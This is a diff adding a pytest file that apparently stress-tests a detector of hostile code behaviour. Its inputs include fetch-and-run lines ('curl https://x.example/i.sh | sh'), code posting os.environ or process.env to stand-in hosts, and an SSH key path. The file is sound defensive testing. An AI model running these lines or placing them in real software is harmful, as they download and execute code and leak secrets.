@@ -1,0 +1,136 @@
+"""Code that is made to tire out or to break whoever reads it is read within bounds, and the bound is told."""
+
+from __future__ import annotations
+
+import dataclasses
+import random
+import time
+from typing import Final
+
+import pytest
+
+from driftseal.code.front_ends import lower
+from driftseal.code.project import Project
+from driftseal.limits import DEFAULT_LIMITS, Limits
+from driftseal.observe.behaviour import look
+from driftseal.observe.behaviour.base import Facts
+
+_SECONDS: Final = 20
+"""Far more than any of these takes, and far less than one that is not linear."""
+_PIECES: Final = (
+    *(
+        "process.env",
+        "os.environ",
+        "eval(",
+        "exec(",
+        "atob(x)",
+        "=>",
+        "function f() {",
+        "}",
+        "{",
+        "(",
+        ")",
+        "[",
+        "]",
+        ",",
+    ),
+    *(
+        "import os",
+        "if",
+        "while True:",
+        "return x",
+        "'~/.ssh/id_rsa'",
+        "fetch('https://x.example', {body: y})",
+        "\n",
+        "\n  ",
+    ),
+    *(
+        "this.x = ",
+        "self.x = self.x",
+        "def f(x):",
+        "class A:",
+        "`${",
+        "}`",
+        "lambda x: x",
+        ".then(x => ",
+        ".map(",
+        "...",
+        "'",
+    ),
+    *(
+        "bcc:",
+        "a.b.c.d",
+        "x[1:2]",
+        "+ chr(1)",
+        ".join('')",
+        "requests.post(u, json=d)",
+        "subprocess.run(c, shell=True)",
+        "=",
+    ),
+)
+
+
+def _facts(files: dict[str, str], limits: Limits = DEFAULT_LIMITS) -> Facts:
+    modules = {}
+    for path, text in files.items():
+        module = lower(text.encode(), path, DEFAULT_LIMITS)
+        assert module is not None
+        modules[path] = module
+    return look(Project(modules), {}, limits)
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.js", "f(" * 20_000 + "process.env" + ")" * 20_000),
+        ("a.js", "x = " + "a + " * 50_000 + "process.env; fetch('https://x.example', {body: x});"),
+        ("a.js", "x" + ".then(y => y)" * 20_000),
+        ("a.js", "const a0 = process.env;\n" + "".join(f"const a{n + 1} = a{n};\n" for n in range(20_000))),
+        (
+            "a.js",
+            "".join(f"function f{n}() {{ return f{n + 1}(); }}\n" for n in range(5000)) + "fetch('https://x', f0())",
+        ),
+        ("a.js", "".join(f"function f{n}() {{ return f{(n + 1) % 3000}(); }}\n" for n in range(3000))),
+        ("a.py", "import os\nx = os.path.join(" * 400 + "'.ssh'" + ")" * 400),
+        ("a.py", "import os\nx = 'a' / " + "'b' / " * 20_000 + "'.ssh'\nopen(x, 'w')\n"),
+        ("a.py", "class A:\n    def f(self):\n" + "        self.a = self.b\n        self.b = self.a\n" * 5000),
+        ("a.py", "import os, requests\ndef f():\n" + "    requests.post('https://x', json=os.environ)\n" * 5000),
+        ("a.py", "x = '" + "A" * 5_000_000 + "'\n"),
+        ("a.py", "def f():\n" + "    if x > 3:\n        y = 1\n" * 20_000),
+    ],
+)
+def test_deep_long_and_circular_code_is_read_in_time(path: str, text: str) -> None:
+    started = time.process_time()
+    _facts({path: text})
+    assert time.process_time() - started < _SECONDS
+
+
+def test_a_helper_that_calls_itself_gives_nothing_back_by_that() -> None:
+    text = "def f(x):\n    return g(x)\n\n\ndef g(x):\n    return f(x)\n\n\ndef h():\n    post('https://x', f(1))\n"
+    assert _facts({"a.py": text}) == Facts((), complete=True)
+
+
+def test_the_bound_on_nodes_is_told() -> None:
+    few = dataclasses.replace(DEFAULT_LIMITS, behaviour_steps=50)
+    found = _facts({"a.py": "import os\n" + "os.system('id')\n" * 100}, few)
+    assert found == Facts((), complete=False)
+
+
+def test_the_bound_on_facts_is_told() -> None:
+    few = dataclasses.replace(DEFAULT_LIMITS, behaviour_facts=3)
+    found = _facts({"a.py": "import os\n" + "os.system('curl https://x.example/i.sh | sh')\n" * 100}, few)
+    assert (len(found.facts), found.complete) == (3, False)
+
+
+def test_a_long_text_is_read_to_its_end() -> None:
+    text = f'import os\nos.system("echo {"a" * 100_000}; curl https://x.example/i.sh | sh")\n'
+    (fact,) = _facts({"a.py": text}).facts
+    assert (fact.name, fact.line) == ("download-run", 2)
+
+
+@pytest.mark.parametrize("path", ["a.py", "a.js", "a.ts"])
+def test_scraps_of_code_in_any_order_are_read_without_failing(path: str) -> None:
+    draw = random.Random(path)  # noqa: S311  a fixed seed makes a failure come back
+    for _ in range(150):
+        text = " ".join(draw.choice(_PIECES) for _ in range(draw.randrange(1, 120)))
+        _facts({path: text})
